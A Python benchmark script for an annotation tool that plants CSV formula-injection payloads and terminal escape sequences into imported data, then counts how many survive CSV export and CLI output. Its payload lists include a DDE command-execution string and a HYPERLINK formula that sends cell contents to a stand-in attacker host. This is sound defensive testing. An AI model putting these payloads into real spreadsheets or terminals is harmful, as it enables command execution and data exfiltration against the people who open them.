"""What leaves Trueloop and could run elsewhere: formulas in a CSV, escapes that a terminal obeys.

python benchmarks/drills_output.py [--count N] [--seed N] prints one JSON.
"""

import argparse
import csv
import io
import json
import random
import sys
import tempfile
from contextlib import redirect_stderr, redirect_stdout, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any, get_args

if __name__ == "__main__":  # run as a script: the repository's root is not on the path yet
    sys.path.insert(0, str(Path(__file__).parent.parent))

from annotate.columns import COLUMNS
from annotate.exports import What, export_file
from annotate.imports import import_file
from annotate.ledger import Ledger

FORMULAS = tuple(
    f"{head}{tail}" for head in "=+-@\t\r\n＝＋－＠" for tail in ("1+1", "SUM(A1)", "cmd|' /C calc'!A0", "")
)
FORMULAS += ("'=1+1", "''=1", '=HYPERLINK("http://evil.example/?"&A1)')
ESCAPES = (
    *("\x1b[31mred", "\x1b[2J", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07x", "\x1bP1$r0m\x1b\\", "\x9b2J"),
    *("\x08\x08gone", "\x7f", "\x07bell", "\x0eshift", "\x1b[?1049h", "\x85next", "\x9d0;t\x9c"),
)


@dataclass
class Output:
    """cells: of text in CSV files; formulas: those that a spreadsheet would run. shown: texts that commands printed
    something about; escapes: those of which a control character came out."""

    cells: int = 0
    formulas: int = 0
    shown: int = 0
    escapes: int = 0
    planted: tuple[int, int] = (0, 0)
    caught: bool = False


def output_drill(count: int, *, seed: int = 0) -> Output:
    """Put formulas and escapes wherever a text goes, export and print. planted: a bare CSV writer, a bare print."""
    rng, found = random.Random(seed), Output()
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        rows = [_row(rng, number) for number in range(count)]
        (folder / "votes.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
        with Ledger.open(f"sqlite:///{folder}/labels.db", durable=False) as ledger:
            import_file(ledger, folder / "votes.jsonl", "votes")
            for what in get_args(What):
                text = b"".join(export_file(ledger, what, "csv")).decode()
                cells, formulas = _formulas(text, what)
                found.cells, found.formulas = found.cells + cells, found.formulas + formulas
        for said in _printed(folder, max(1, count // 10), rng):
            found.shown += 1
            found.escapes += _steers(said)
    bare = io.StringIO()
    csv.writer(bare).writerows([["annotator"], *([text] for text in FORMULAS)])
    found.planted = _formulas(bare.getvalue(), "votes")[1], sum(_steers(text) for text in ESCAPES)
    found.caught = found.planted[0] >= len(FORMULAS) - 2 and found.planted[1] == len(ESCAPES)
    return found


def _row(rng: random.Random, number: int) -> dict[str, Any]:
    def bad() -> str:
        return rng.choice(FORMULAS)

    return {
        "prompt": f"{bad()} {number}",
        "responses": [{"text": f"{bad()}{place}", "model": bad()} for place in range(rng.randint(2, 4))][:2],
        "ranking": [[0], [1]],
        "annotator": f"{bad()}x",
        "rationale": bad(),
        "strength": -2,
        "source": bad(),
        "criteria": {bad(): bad()},
        "guideline": f"{bad()}g",
        "edited": {"0": f"{bad()}e"},
    }


def _formulas(text: str, what: str) -> tuple[int, int]:
    """Cells of text in a CSV, and those that begin like a formula; a number may have its sign."""
    header, *lines = csv.reader(io.StringIO(text, newline=""))
    kinds = COLUMNS[what]
    cells = formulas = 0
    for line in lines:
        for name, cell in zip(header, line, strict=True):
            if kinds.get(name, "text").rstrip("?") not in ("whole", "number"):
                cells += 1
                formulas += cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))
    return cells, formulas


def _printed(folder: Path, count: int, rng: random.Random) -> list[str]:
    """What commands print about arguments, files and rows with escapes in them, on both streams."""
    from align.cli import main

    workspace = folder / "workspace"
    _said(main, ["init", str(workspace), "--recipe", "tiny"])
    printed = []
    for _ in range(count):
        bad = rng.choice(ESCAPES)
        path = folder / "rows.jsonl"
        row = {"prompt": f"p{bad}", "response_a": "a", "response_b": "b", "annotator": bad, "preference": bad}
        odd = {"prompt": f"p{bad}", "chosen": f"a{bad}", "rejected": "b", f"column{bad}": 1}
        path.write_text(json.dumps(row) + "\n", encoding="utf-8")
        (folder / "odd.jsonl").write_text(json.dumps(odd) + "\n", encoding="utf-8")
        here = ["--workspace", str(workspace)]
        for command in (
            ["import", str(path), "--as", "votes"],
            ["import", str(path), "--as", "votes", "--keep-going"],
            ["import", str(path), "--as", "votes", "--keep-going", "--json"],
            ["import", str(folder / "odd.jsonl"), "--as", "preferences"],
            ["import", str(folder / "odd.jsonl"), "--as", "preferences", "--json"],
            ["import", f"no{bad}.jsonl", "--as", "votes"],
            ["prompts", str(folder / "odd.jsonl"), "--keep-going"],
            ["lineage", f"id{bad}"],
            ["lineage", f"id{bad}", "--json"],
            ["export", "--what", "votes", "--out", str(folder / f"out{bad.replace('/', '')}.csv")],
            ["recipe", f"policy.{bad}=1"],
            ["status", f"--un{bad}known"],
            ["export", "--what", bad],
        ):
            printed.append(_said(main, [*command, *here]))
    return printed


def _said(main: Any, command: list[str]) -> str:
    out, error = io.StringIO(), io.StringIO()
    # SystemExit: argparse, of a command that it does not understand
    with redirect_stdout(out), redirect_stderr(error), suppress(SystemExit):
        main(command)
    return out.getvalue() + error.getvalue()


def _steers(text: str) -> bool:
    """Whether a terminal would find a control character in it."""
    return any(char not in "\n\t" and (ord(char) < 32 or 127 <= ord(char) < 160) for char in text)


def main() -> None:
    """Print the drill's figures as JSON."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--count", type=int, default=1000)
    parser.add_argument("--seed", type=int, default=0)
    arguments = parser.parse_args()
    print(json.dumps(output_drill(arguments.count, seed=arguments.seed).__dict__, indent=1))


if __name__ == "__main__":
    main()
